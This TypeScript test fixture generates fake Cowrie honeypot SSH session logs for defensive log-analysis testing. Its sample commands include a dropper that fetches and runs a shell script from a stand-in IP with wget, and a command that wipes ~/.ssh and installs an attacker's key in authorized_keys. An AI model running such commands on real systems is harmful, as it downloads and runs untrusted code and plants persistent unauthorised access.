/** The body of a public key that several attackers may share. */
export const sharedKey = `AAAA${'B3NzaC1yc2EAAAADAQABAAABAQ'.repeat(4)}`;

/** Sessions of Cowrie's JSON, a minute apart, each from a source of its own: a login, one shared key, and a dropper. */
export function droppers(
  sources: readonly string[],
  input = 'wget http://203.0.113.66/x.sh; sh x.sh',
): string {
  const lines = sources.flatMap((src, n) => {
    const head = (ms: number) => ({
      timestamp: new Date(Date.UTC(2025, 1, 12, 3, n) + ms).toISOString(),
      src_ip: src,
      session: `s${n}`,
      sensor: 'pot',
      protocol: 'ssh',
    });
    const ends = { src_port: 4_000, dst_ip: '192.0.2.10', dst_port: 22 };
    const key = `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${sharedKey} mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`;
    return [
      { eventid: 'cowrie.session.connect', ...ends, ...head(0) },
      { eventid: 'cowrie.login.success', username: 'root', password: `pw${n}`, ...head(10) },
      { eventid: 'cowrie.command.input', input: key, ...head(20) },
      { eventid: 'cowrie.command.input', input, ...head(30) },
      { eventid: 'cowrie.session.closed', duration: 1, ...head(40) },
    ];
  });
  return `${lines.map((line) => JSON.stringify(line)).join('\n')}\n`;
}
